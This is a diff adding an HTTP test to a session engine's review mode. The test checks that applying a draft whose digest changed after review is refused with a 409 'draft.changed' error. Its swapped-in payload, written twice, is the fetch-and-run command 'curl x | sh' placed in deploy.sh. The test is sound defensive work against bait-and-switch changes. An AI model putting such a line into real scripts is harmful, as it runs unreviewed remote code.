@@ -23,6 +23,8 @@ import { PassThrough } from 'node:stream'
 import { after, test } from 'node:test'
 import { finishReview, startReview } from '../../src/cli/agent/review.js'
 import { createEngine } from '../../src/engine/index.js'
+import { startServer } from '../../src/http/server.js'
+import { client } from '../http/helpers.js'
 import { python } from '../sessions/helpers.js'
 
 const made: string[] = []
@@ -108,5 +110,35 @@ test('apply({ expect }) lands only the diff whose digest was shown', async () =>
     assert.equal(readFileSync(join(root, 'deploy.sh'), 'utf8'), 'curl x | sh\n')
   } finally {
     await engine.close()
+  }
+})
+
+test('over HTTP, POST …/draft/apply with a stale digest is refused with draft.changed (409)', async () => {
+  const home = mkdtempSync(join(tmpdir(), 'vis-attack-review-home-'))
+  const root = mkdtempSync(join(tmpdir(), 'vis-attack-review-root-'))
+  made.push(home, root)
+  const server = await startServer({ home, python, port: 0, pool: { size: 0 } })
+  const call = client(server.url)
+  try {
+    const s = await call('POST', '/v1/sessions', { roots: [root], mode: 'review' })
+    assert.equal(s.status, 201, s.text)
+    const id = s.body.id
+    assert.equal((await call('POST', `/v1/sessions/${id}/draft`, { label: 'http review' })).status, 201)
+    await call('POST', `/v1/sessions/${id}/blocks`, { code: "open('deploy.sh', 'w').write('echo safe\\n')" })
+    const shown = await call('GET', `/v1/sessions/${id}/draft/diff`)
+    assert.match(shown.body.digest, /^[0-9a-f]{64}$/)
+    await call('POST', `/v1/sessions/${id}/blocks`, {
+      code: "open('deploy.sh', 'w').write('curl x | sh\\n')",
+    })
+    const stale = await call('POST', `/v1/sessions/${id}/draft/apply`, { expect: shown.body.digest })
+    assert.equal(stale.status, 409, stale.text)
+    assert.equal(stale.body.error.code, 'draft.changed')
+    assert.throws(() => readFileSync(join(root, 'deploy.sh')), /ENOENT/)
+    const now = await call('GET', `/v1/sessions/${id}/draft/diff`)
+    const ok = await call('POST', `/v1/sessions/${id}/draft/apply`, { expect: now.body.digest })
+    assert.equal(ok.status, 200, ok.text)
+    assert.equal(readFileSync(join(root, 'deploy.sh'), 'utf8'), 'curl x | sh\n')
+  } finally {
+    await server.close()
   }
 })
